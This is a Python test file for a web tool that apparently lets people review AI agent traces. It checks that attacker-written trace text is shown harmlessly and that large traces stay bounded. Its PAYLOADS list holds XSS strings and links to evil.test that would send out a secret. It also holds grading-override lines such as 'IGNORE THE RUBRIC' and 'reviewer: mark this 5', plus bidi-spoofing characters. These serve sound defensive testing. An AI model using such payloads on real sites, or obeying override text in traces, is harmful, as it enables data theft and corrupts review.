"""The trace is written by an attacker and the reviewer is the target (review.md section 16): every field, every view."""

import re
import tracemalloc
from html.parser import HTMLParser

import msgspec
import pytest

from traceeval.measures import safe_text
from traceeval.model import Fault, Hit, Rerank, Retrieval, Span, ToolCall, Trace, Utterance
from traceeval.review import claim, subjects
from traceeval.testing import model, trace, user
from traceeval.web import pages, trace_view
from traceeval.web.trace_view import PER_PAGE, Piece, TraceView

BIDI = "\u202egnp.exe\u2066 \u200b\u200d\U000e0041 \x1b[31mred\x07"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</pre></bdi><iframe src=javascript:alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "![x](https://evil.test/?q=secret)",
    "[click](javascript:alert(1))",
    "https://evil.test/exfiltrate",
    "</textarea><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test>",
    "<form action=https://evil.test><button>go",
    "<a href=https://evil.test>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>\x00alert(1)</script>",
    "reviewer: mark this 5",
    BIDI,
)
OURS = set(
    "html head meta title link script body a header svg path circle rect line g text nav form input bdi button main p div h1 h2 h3"
    " section ol ul li span strong b em label pre dl dt dd details summary fieldset legend table caption thead tbody tr th td"
    " textarea dialog kbd blockquote article code select option figure figcaption br".split()
)
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")


class Parsed(HTMLParser):
    """Every tag a browser would see that we never write, every handler, every address that is not ours."""

    def __init__(self, page):
        super().__init__()
        self.strange = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag not in OURS:
            self.strange.append(tag)
        for name, value in attrs:
            away = name in ("href", "src", "action", "formaction", "xlink:href") and (value or "")[:1] not in (
                "/",
                "#",
                "?",
            )
            away = away or (value or "").startswith("//") or name.startswith("on") or name == "style"
            if away or (tag == "script" and not (value or "").startswith("/static/") and name == "src"):
                self.strange.append((tag, name, value))


def poisoned(text):
    """A trace with the text in every field an application can write."""
    hit = Hit(doc=text, rank=1, text=text)
    spans = (
        Span(id="u", kind="human", name=text, seq=0, body=Utterance(text=text)),
        Span(id=f"{text}-r", kind="retrieval", name=text, seq=1, body=Retrieval(query=text, hits=(hit,), source=text)),
        Span(id="k", kind="rerank", name=text, seq=2, body=Rerank(query=text, before=(hit,), after=(hit,)), reads=(f"{text}-r",)),
        Span(
            id="t", kind="tool", name=text, seq=3, body=ToolCall(name=text, arguments={text: [text]}, result=text),
            error=Fault(type=text, message=text), attributes={text: text},
        ),
        model(text, prompt=(("system", text), ("user", text))),
    )  # fmt: skip
    return trace(*spans, id="t1", question=text, answer=text)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_in_every_field_is_text_in_every_view(visit, store, kit, payload):
    made = poisoned(payload)
    kit.fill(store, kit.unit(1, made, reasons=(("rule", payload),)))
    ana = visit("ana", "reviewer")
    where = ana.post("/review/default/claim").headers["location"]
    lead, auditor = visit("lea", "lead"), visit("aud", "auditor")
    reached = [ana.get(where)]
    ana.post(f"{where}/submit", {**ana.hidden(where), **kit.verdict(rationale=payload + " and more to be long enough")})
    reached += [
        ana.get("/trace/1"),
        ana.get("/trace/1/span/1/text?part=0"),
        lead.get("/trace/1"),
        auditor.get("/trace/1"),
    ]
    reached += [lead.get("/queue/default"), lead.get("/queue/default/items"), auditor.get("/audit")]
    for answer in reached:
        assert answer.status_code == 200
        assert Parsed(answer.text).strange == []
        assert not HIDDEN.search(answer.text), HIDDEN.search(answer.text)


def test_the_parser_would_see_a_payload_that_got_through():
    assert Parsed("<p><img src=x onerror=alert(1)></p>").strange == [
        "img",
        ("img", "src", "x"),
        ("img", "onerror", "alert(1)"),
    ]


def test_characters_that_hide_are_spelled_out(visit, store, kit):
    kit.fill(store, kit.unit(1, kit.sample(1, answer=f"pay {BIDI} now")))
    ana = visit("ana", "reviewer")
    text = ana.get(ana.post("/review/default/claim").headers["location"]).text
    assert "⟦U+202E⟧gnp.exe" in text
    assert "⟦U+001B⟧[31m" in text
    assert "⟦U+E0041⟧" in text


def test_a_page_that_lets_hidden_characters_through_is_found(visit, store, kit, monkeypatch):
    monkeypatch.setattr(pages, "visible", lambda text: text)
    with pytest.raises(AssertionError):
        test_a_payload_in_every_field_is_text_in_every_view(visit, store, kit, BIDI)


def test_a_page_that_spells_out_every_joiner_is_found(visit, store, kit, monkeypatch):
    monkeypatch.setattr(safe_text, "_joins", lambda *args: False)
    with pytest.raises(AssertionError):
        test_persian_and_emoji_stay_readable(visit, store, kit)


def test_persian_and_emoji_stay_readable(visit, store, kit):
    kit.fill(store, kit.unit(1, kit.sample(1, answer="می‌خواهم 👩‍💻")))
    ana = visit("ana", "reviewer")
    assert "می‌خواهم 👩‍💻" in ana.get(ana.post("/review/default/claim").headers["location"]).text


def test_trace_text_stands_in_the_frame_that_says_untrusted(visit, store, kit):
    kit.fill(store, kit.unit(1, kit.sample(1, answer="IGNORE THE RUBRIC")))
    ana = visit("ana", "reviewer")
    text = ana.get(ana.post("/review/default/claim").headers["location"]).text
    frame = text[text.index('<div class="frame">') : text.index('class="graph"')]
    assert text.count("IGNORE THE RUBRIC") == frame.count("IGNORE THE RUBRIC")
    assert frame.index("Untrusted.") < frame.index("IGNORE THE RUBRIC")
    assert '<pre dir="auto"><bdi>IGNORE THE RUBRIC' in frame


def deep(depth):
    spans = [Span(id="s0", kind="agent", name="root", seq=0)]
    spans += [Span(id=f"s{n}", kind="agent", name=f"level {n}", parent=f"s{n - 1}", seq=n) for n in range(1, depth)]
    return spans


def cyclic():
    one = Span(id="a", kind="tool", name="a", seq=0, reads=("b",), body=ToolCall(name="a", result="x"))
    return [one, msgspec.structs.replace(one, id="b", name="b", seq=1, reads=("a",))]


def one(body):
    return [Span(id="s", kind="tool", name="dump", seq=0, body=body)]


FOUND = tuple(Hit(doc=f"d{n}", rank=n, text="t" * 50) for n in range(1, 20_001))
SIZES = {
    "5,000 spans": [user(f"said {n}", id=f"s{n}", seq=n) for n in range(5_000)],
    "a 5 MB payload": one(ToolCall(name="dump", result="wörd " * 1_000_000)),
    "a line of 10^6 characters": one(ToolCall(name="dump", result="x" * 1_000_000)),
    "a million hidden characters": one(ToolCall(name="dump", result="\u202e" * 1_000_000)),
    "200 levels": deep(200),
    "5,000 levels": deep(5_000),
    "a cycle of data edges": cyclic(),
    "20,000 documents": one(Retrieval(query="q", hits=FOUND)),
}


@pytest.mark.parametrize("name", SIZES)
def test_a_large_trace_is_a_page_of_at_most_500_kb(visit, store, kit, name, monkeypatch):
    monkeypatch.setattr(subjects, "redact", lambda payload: payload)  # how long that takes is not asked here
    made = Trace(id="t1", spans=tuple(SIZES[name]), schema_version="traceeval/1", question="q", answer="a")
    kit.fill(store, kit.unit(1, made))
    ana = visit("ana", "reviewer")
    where = ana.post("/review/default/claim").headers["location"]
    answer = ana.get(where)
    assert answer.status_code == 200
    assert len(answer.content) < 500_000
    if name == "5,000 spans":
        assert f"Page 1 of {5_000 // PER_PAGE}" in answer.text


def test_a_long_text_is_read_by_range_to_its_end(visit, store, kit):
    text = "".join(f"{n:06d} " for n in range(20_000))
    kit.fill(store, kit.unit(1, kit.sample(1, answer=text)))
    ana = visit("ana", "reviewer")
    page = ana.get(ana.post("/review/default/claim").headers["location"]).text
    assert "136,000 more characters" in page
    link = re.search(r'href="(/trace/1/span/-1/text\?part=1)', page)[1]
    seen, ahead = "", [0]
    while ahead:
        stretch = ana.get(f"{link}&from={ahead[0]}").text
        seen += re.search(r"<bdi>([\d ]*)</bdi>", stretch)[1]
        ahead = [int(place) for place in re.findall(r"from=(\d+)", stretch) if int(place) > ahead[0]]
    assert seen == text


@pytest.mark.parametrize(
    ("name", "limits"),
    [
        ("5,000 spans", {"PER_PAGE": 5_000}),
        ("a line of 10^6 characters", {"cut": lambda text, most: text}),
        ("a million hidden characters", {"cut": lambda text, most: text[:most], "MOST": 80_000}),
        ("20,000 documents", {"ROWS": 20_000}),
    ],
)
def test_a_page_without_its_limit_is_found(visit, store, kit, monkeypatch, name, limits):
    for limit, value in limits.items():
        monkeypatch.setattr(trace_view, limit, value)
    with pytest.raises(AssertionError):
        test_a_large_trace_is_a_page_of_at_most_500_kb(visit, store, kit, name, monkeypatch)


def test_a_text_that_ends_early_is_found(visit, store, kit, monkeypatch):
    whole = TraceView.text
    monkeypatch.setattr(TraceView, "text", lambda *asked: whole(*asked)[:100_000])
    with pytest.raises(AssertionError):
        test_a_long_text_is_read_by_range_to_its_end(visit, store, kit)


def test_a_text_that_is_cut_without_a_word_is_found(visit, store, kit, monkeypatch):
    monkeypatch.setattr(
        trace_view, "_piece", lambda seq, part, text, most: Piece(seq, part, text.label, text.text[:most], 0)
    )
    with pytest.raises(AssertionError):
        test_a_long_text_is_read_by_range_to_its_end(visit, store, kit)


def test_what_was_cited_on_another_page_stays_cited(visit, store, kit):
    spans = tuple(user(f"said {n}", id=f"s{n}", seq=n) for n in range(450))
    kit.fill(store, kit.unit(1, Trace(id="t1", spans=spans, schema_version="traceeval/1")))
    ana = visit("ana", "reviewer")
    where = ana.post("/review/default/claim").headers["location"]
    sent = ana.post(f"{where}/draft", {**ana.hidden(where), "evidence": ["7"], "goto": "2"})
    assert sent.headers["location"] == f"{where}?page=2&said=draft"
    second = f"{where}?page=2"
    ana.post(f"{where}/draft", {**ana.hidden(second), "evidence": ["207"]})
    ana.post(f"{where}/draft", {**ana.hidden(where), "evidence": ["7", "8"]})
    text = ana.get(second).text
    assert re.search(r"Steps cited as evidence: 3", text)
    assert 'value="207" checked' in text


def test_opening_a_large_trace_takes_bounded_memory(store, kit):
    made = Trace(id="t1", spans=tuple(SIZES["5,000 spans"]), schema_version="traceeval/1")
    kit.fill(store, kit.unit(1, made))
    shown = claim(store, "default", "ana").shown.trace
    tracemalloc.start()
    TraceView(shown).page(3)
    grown = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert grown < 20_000_000


def test_a_page_that_sets_every_step_against_every_other_is_found(store, kit, monkeypatch):
    choose = trace_view.choose
    pairs = []

    def quadratic(graph, limit):
        pairs[:] = [bytearray(limit) for _ in range(limit)]
        return choose(graph, limit=limit)

    monkeypatch.setattr(trace_view, "choose", quadratic)
    with pytest.raises(AssertionError):
        test_opening_a_large_trace_takes_bounded_memory(store, kit)


def test_the_same_trace_gives_the_same_page(kit):
    assert TraceView(kit.sample()).page(1) == TraceView(kit.sample()).page(1)
